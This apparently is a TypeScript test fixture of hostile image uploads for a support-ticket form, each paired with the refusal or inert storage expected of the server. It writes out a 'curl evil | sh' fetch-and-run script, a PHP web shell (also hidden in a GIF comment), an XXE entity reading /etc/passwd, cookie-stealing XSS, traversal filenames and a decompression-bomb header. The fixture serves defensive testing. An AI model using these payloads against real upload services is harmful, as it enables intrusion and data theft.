import { deflateSync, gzipSync } from 'node:zlib';
import { SupportText, TICKET_IMAGE_MAX_BYTES } from '@rackdesk/contract';
import { sampleImages } from '../images.ts';
import { type FormPart, imagePart } from '../multipart.ts';
import { pngChunk } from './png-chunk.ts';

/**
 * Hostile uploads for the ticket forms' image field (issue 17 scope 2, issue 19 §5): files that
 * are not images under image names and types, images that carry markup or archives, cut or
 * oversized files, forms that break the field rules, and real images under hostile names. Each
 * says what it must come to: refused with nothing stored, or stored under a generated name and
 * served back only as the image type its bytes are (never as something a browser runs).
 */

/** A real image with something appended: still that image, served as one. */
const withTail = (bytes: Buffer, tail: string | Buffer) => Buffer.concat([bytes, Buffer.from(tail)]);
const html = (text: string) => Buffer.from(text);
const big = (size: number) => withTail(sampleImages.png, Buffer.alloc(size - sampleImages.png.length));

export type UploadOutcome = { refused: number; message?: string } | { inert: string };
const notAnImage = { refused: 422, message: SupportText.notAnImage };

/** The EICAR anti-virus test string: harmless, but every scanner flags it. */
const EICAR = 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*';

/** A GIF header whose size bytes open a JavaScript comment: both a GIF and a script. */
const gifScript = Buffer.concat([
  Buffer.from('GIF89a/*'),
  sampleImages.gif.subarray(8),
  Buffer.from('*/=alert(document.domain);'),
]);

/** The 1×1 GIF with other dimensions in its header. */
function gifOfSize(width: number, height: number) {
  const gif = Buffer.from(sampleImages.gif);
  gif.writeUInt16LE(width, 6);
  gif.writeUInt16LE(height, 8);
  return gif;
}

/** The 1×1 GIF with a comment extension block before its trailer. */
function gifWithComment(text: string) {
  const gif = sampleImages.gif;
  const comment = Buffer.concat([
    Buffer.from([0x21, 0xfe, text.length]),
    Buffer.from(text),
    Buffer.from([0]),
  ]);
  return Buffer.concat([gif.subarray(0, gif.length - 1), comment, gif.subarray(gif.length - 1)]);
}

/** The sample PNG with a tEXt chunk right after its header. */
function pngWithText(text: string) {
  const png = sampleImages.png;
  const afterHeader = 8 + 25; // signature, then IHDR (4 length, 4 type, 13 data, 4 CRC)
  const chunk = pngChunk('tEXt', Buffer.from(`Comment\0${text}`, 'latin1'));
  return Buffer.concat([png.subarray(0, afterHeader), chunk, png.subarray(afterHeader)]);
}

/**
 * A PNG whose header claims 100000×100000 pixels (40 GB decoded) over a few bytes of deflated
 * zeros: what a decompression bomb looks like to the server.
 */
const pngBomb = (() => {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(100_000, 0);
  header.writeUInt32BE(100_000, 4);
  header.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([
    sampleImages.png.subarray(0, 8),
    pngChunk('IHDR', header),
    pngChunk('IDAT', deflateSync(Buffer.alloc(64 * 1024))),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
})();

/** The sample JPEG with a comment (COM) segment right after its start marker. */
function jpegWithComment(text: string) {
  const jpeg = sampleImages.jpeg;
  const length = Buffer.alloc(2);
  length.writeUInt16BE(text.length + 2);
  return Buffer.concat([
    jpeg.subarray(0, 2),
    Buffer.from([0xff, 0xfe]),
    length,
    Buffer.from(text),
    jpeg.subarray(2),
  ]);
}

/** What each hostile upload must come to: refused with nothing stored, or stored inert. */
export const hostileUploads: [string, FormPart[], UploadOutcome][] = [
  ['a shell script renamed .png', [imagePart(html('#!/bin/sh\ncurl evil | sh\n'), 'run.png')], notAnImage],
  ['a JavaScript file renamed .png', [imagePart(html('alert(document.cookie)'), 'x.png')], notAnImage],
  [
    'an SVG with a script',
    [
      imagePart(
        html('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
        'a.svg',
        'image/svg+xml',
      ),
    ],
    notAnImage,
  ],
  [
    'an SVG named .png and claimed image/png',
    [imagePart(html('<svg onload="alert(1)" xmlns="http://www.w3.org/2000/svg"/>'), 'a.png')],
    notAnImage,
  ],
  [
    'an SVG with an XML prolog',
    [imagePart(html('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>'), 'a.svg')],
    notAnImage,
  ],
  [
    'an HTML page',
    [imagePart(html('<!doctype html><script>alert(1)</script>'), 'page.html', 'text/html')],
    notAnImage,
  ],
  [
    'an HTML page claimed as image/gif',
    [imagePart(html('<html><body onload=alert(1)>'), 'a.gif', 'image/gif')],
    notAnImage,
  ],
  [
    'HTML behind a GIF-like prefix',
    [imagePart(html('GIF89a<script>alert(1)</script>'), 'a.gif', 'image/gif')],
    notAnImage,
  ],
  [
    'HTML behind a PNG signature',
    [imagePart(withTail(sampleImages.png.subarray(0, 8), '<script>alert(1)</script>'), 'a.png')],
    notAnImage,
  ],
  [
    'an XHTML document',
    [
      imagePart(
        html('<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>'),
        'x.xhtml',
      ),
    ],
    notAnImage,
  ],
  [
    'a PDF',
    [
      imagePart(
        html('%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<<>>\n%%EOF'),
        'doc.pdf',
        'application/pdf',
      ),
    ],
    notAnImage,
  ],
  ['a PDF named .jpg', [imagePart(html('%PDF-1.7\n%%EOF'), 'photo.jpg', 'image/jpeg')], notAnImage],
  [
    'a ZIP archive',
    [
      imagePart(
        Buffer.from('504b0304140000000800000000000000000000000000000000000000', 'hex'),
        'a.zip',
        'application/zip',
      ),
    ],
    notAnImage,
  ],
  [
    'a JAR named .png',
    [imagePart(Buffer.from('504b03040a0000000000000000000000000000000000000000000000', 'hex'), 'applet.png')],
    notAnImage,
  ],
  [
    'a Windows executable',
    [
      imagePart(
        Buffer.concat([html('MZ'), Buffer.alloc(58), Buffer.from('40000000', 'hex'), Buffer.alloc(4)]),
        'setup.exe',
        'application/x-msdownload',
      ),
    ],
    notAnImage,
  ],
  [
    'an ELF binary named .gif',
    [imagePart(Buffer.concat([Buffer.from('7f454c46020101', 'hex'), Buffer.alloc(57)]), 'a.gif')],
    notAnImage,
  ],
  [
    'a Flash file',
    [imagePart(Buffer.concat([html('CWS'), Buffer.from([10, 0, 0, 0]), Buffer.alloc(20)]), 'a.swf')],
    notAnImage,
  ],
  [
    'a BMP image',
    [imagePart(Buffer.concat([html('BM'), Buffer.alloc(60)]), 'a.bmp', 'image/bmp')],
    notAnImage,
  ],
  [
    'a TIFF image',
    [imagePart(Buffer.concat([Buffer.from('4d4d002a', 'hex'), Buffer.alloc(60)]), 'a.tiff', 'image/tiff')],
    notAnImage,
  ],
  [
    'an ICO image',
    [imagePart(Buffer.concat([Buffer.from('0000010001001010', 'hex'), Buffer.alloc(60)]), 'favicon.ico')],
    notAnImage,
  ],
  ['an empty file with a name', [imagePart(Buffer.alloc(0), 'empty.png')], notAnImage],
  ['a truncated PNG header', [imagePart(sampleImages.png.subarray(0, 6), 'cut.png')], notAnImage],
  ['a truncated GIF header', [imagePart(sampleImages.gif.subarray(0, 5), 'cut.gif')], notAnImage],
  ['a WebP cut short', [imagePart(sampleImages.webp.subarray(0, 64), 'cut.webp')], notAnImage],
  [
    'a valid image and then an HTML file',
    [imagePart(sampleImages.png), imagePart(html('<script>alert(1)</script>'), 'b.png')],
    notAnImage,
  ],
  [
    'an image of 5 MB and one byte',
    [imagePart(big(TICKET_IMAGE_MAX_BYTES + 1), 'huge.png')],
    { refused: 413, message: SupportText.imageTooLarge },
  ],
  [
    'an image of 6 MB after a good one',
    [imagePart(sampleImages.gif), imagePart(big(6 * 1024 * 1024), 'huge.png')],
    { refused: 413, message: SupportText.imageTooLarge },
  ],
  [
    'six images',
    Array.from({ length: 6 }, () => imagePart(sampleImages.png)),
    { refused: 422, message: SupportText.tooManyImages },
  ],
  [
    'twelve images',
    Array.from({ length: 12 }, () => imagePart(sampleImages.gif)),
    { refused: 422, message: SupportText.tooManyImages },
  ],
  [
    'an image in the message field',
    [{ name: 'message', filename: 'a.png', bytes: sampleImages.png }],
    { refused: 422 },
  ],
  [
    'an image in an unknown field',
    [{ name: 'file', filename: 'a.png', bytes: sampleImages.png }],
    { refused: 422 },
  ],
  ['a text in the image field', [{ name: 'images[]', value: 'not a file' }], notAnImage],
  [
    'a second message part',
    [
      { name: 'message', value: 'first' },
      { name: 'message', value: 'second' },
    ],
    { refused: 422 },
  ],
  ['an unknown text field', [{ name: 'deptid', value: '2' }], { refused: 422 }],
  ['a message with a NUL', [{ name: 'message', value: 'a\u0000b' }], { refused: 422 }],
  ['a field name with a control character', [{ name: 'mess\u0007age2', value: 'x' }], { refused: 422 }],
  ['a huge text field', [{ name: 'extra', value: 'x'.repeat(400_000) }], { refused: 422 }],
  [
    'forty text fields',
    Array.from({ length: 40 }, (_, i) => ({ name: `f${i}`, value: 'x' })),
    { refused: 413 },
  ],
  ['a __proto__ field', [{ name: '__proto__', value: 'x' }], { refused: 422 }],
  // Real images under hostile names and claimed types: stored under a generated name, served as images.
  [
    'a real PNG named ../../etc/passwd.png',
    [imagePart(sampleImages.png, '../../etc/passwd.png')],
    { inert: 'image/png' },
  ],
  ['a real PNG named with a NUL', [imagePart(sampleImages.png, 'a\u0000.html')], { inert: 'image/png' }],
  [
    'a real JPEG named .html and claimed text/html',
    [imagePart(sampleImages.jpeg, 'index.html', 'text/html')],
    { inert: 'image/jpeg' },
  ],
  [
    'a real GIF named <script>.svg',
    [imagePart(sampleImages.gif, '<script>alert(1)</script>.svg', 'image/svg+xml')],
    { inert: 'image/gif' },
  ],
  [
    'a real WebP with a 300-character name',
    [imagePart(sampleImages.webp, `${'w'.repeat(300)}.webp`)],
    { inert: 'image/webp' },
  ],
  [
    'a real PNG named with a Windows path',
    [imagePart(sampleImages.png, 'C:\\Windows\\system32\\a.png')],
    { inert: 'image/png' },
  ],
  [
    'a GIF+ZIP polyglot (GIFAR)',
    [imagePart(withTail(sampleImages.gif, Buffer.from('504b030414000000080000000000', 'hex')), 'gifar.gif')],
    { inert: 'image/gif' },
  ],
  [
    'a PNG with HTML appended',
    [imagePart(withTail(sampleImages.png, '<html><script>alert(1)</script></html>'), 'p.png', 'text/html')],
    { inert: 'image/png' },
  ],
  [
    'a JPEG with a script in its tail',
    [imagePart(withTail(sampleImages.jpeg, '<script>alert(1)</script>'), 'j.jpg')],
    { inert: 'image/jpeg' },
  ],
  // Issue 19 §5: polyglots, lying names and types, bombs and scanner bait.
  ['a GIF/JavaScript polyglot', [imagePart(gifScript, 'gifjs.gif', 'image/gif')], { inert: 'image/gif' }],
  [
    'the same polyglot claimed as JavaScript',
    [imagePart(gifScript, 'x.js', 'text/javascript')],
    { inert: 'image/gif' },
  ],
  [
    'a PNG claiming 100000×100000 pixels (decompression bomb header)',
    [imagePart(pngBomb, 'bomb.png')],
    { inert: 'image/png' },
  ],
  [
    'a GIF claiming 65535×65535 pixels',
    [imagePart(gifOfSize(0xffff, 0xffff), 'huge.gif', 'image/gif')],
    { inert: 'image/gif' },
  ],
  ['the EICAR test string named .png', [imagePart(html(EICAR), 'eicar.png')], notAnImage],
  [
    'a real PNG with the EICAR string after its end',
    [imagePart(withTail(sampleImages.png, EICAR), 'e.png')],
    { inert: 'image/png' },
  ],
  [
    'a real PNG with a double extension .png.html',
    [imagePart(sampleImages.png, 'shot.png.html', 'text/html')],
    { inert: 'image/png' },
  ],
  [
    'an HTML page with a double extension .html.png',
    [imagePart(html('<script>alert(1)</script>'), 'page.html.png')],
    notAnImage,
  ],
  [
    'a PHP script named .php.png',
    [imagePart(html('<?php system($_GET["c"]); ?>'), 'shell.php.png')],
    notAnImage,
  ],
  [
    'a real GIF with PHP in a comment block',
    [imagePart(gifWithComment('<?php system($_GET["c"]); ?>'), 'c.php.gif', 'image/gif')],
    { inert: 'image/gif' },
  ],
  [
    'a real PNG claimed as image/svg+xml',
    [imagePart(sampleImages.png, 'a.svg', 'image/svg+xml')],
    { inert: 'image/png' },
  ],
  [
    'a real WebP claimed as application/xhtml+xml',
    [imagePart(sampleImages.webp, 'a.xhtml', 'application/xhtml+xml')],
    { inert: 'image/webp' },
  ],
  [
    'a real PNG named with an encoded NUL',
    [imagePart(sampleImages.png, 'a.png%00.html')],
    { inert: 'image/png' },
  ],
  [
    'a real PNG named with encoded slashes',
    [imagePart(sampleImages.png, '..%2f..%2fetc%2fpasswd.png')],
    { inert: 'image/png' },
  ],
  [
    'a real JPEG named with a quote and a header',
    [imagePart(sampleImages.jpeg, 'a.jpg";x=".html', 'image/jpeg')],
    { inert: 'image/jpeg' },
  ],
  [
    'a real PNG with a tEXt chunk holding a script',
    [imagePart(pngWithText('<script>alert(1)</script>'), 't.png')],
    { inert: 'image/png' },
  ],
  [
    'a real JPEG with HTML in a comment segment',
    [imagePart(jpegWithComment('<html><script>alert(1)</script>'), 'c.jpg', 'text/html')],
    { inert: 'image/jpeg' },
  ],
  [
    'a real WebP with HTML appended',
    [imagePart(withTail(sampleImages.webp, '<script>alert(1)</script>'), 'w.webp')],
    { inert: 'image/webp' },
  ],
  [
    'an HTML page with a UTF-16 byte order mark',
    [
      imagePart(
        Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('<script>alert(1)</script>', 'utf16le')]),
        'bom.png',
      ),
    ],
    notAnImage,
  ],
  [
    'a UTF-7 script',
    [imagePart(html('+ADw-script+AD4-alert(1)+ADw-/script+AD4-'), 'utf7.gif', 'image/gif')],
    notAnImage,
  ],
  [
    'a gzipped SVG (svgz)',
    [
      imagePart(
        gzipSync('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
        'a.svgz',
        'image/svg+xml',
      ),
    ],
    notAnImage,
  ],
  [
    'an XML document with an external entity',
    [
      imagePart(
        html('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
        'x.png',
      ),
    ],
    notAnImage,
  ],
  [
    'a style sheet',
    [imagePart(html('body{background:url("javascript:alert(1)")}'), 'a.css', 'text/css')],
    notAnImage,
  ],
  ['a single zero byte', [imagePart(Buffer.alloc(1), 'zero.png')], notAnImage],
  ['a kilobyte of zero bytes', [imagePart(Buffer.alloc(1024), 'zeros.png')], notAnImage],
];

/** The reply form a case is sent as: one that brings its own message part alone, the others with a message. */
export function hostileUploadForm(parts: FormPart[]): FormPart[] {
  const hasMessage = parts.some((part) => part.name === 'message' && 'value' in part);
  return hasMessage ? parts : [{ name: 'message', value: 'Attached.' }, ...parts];
}
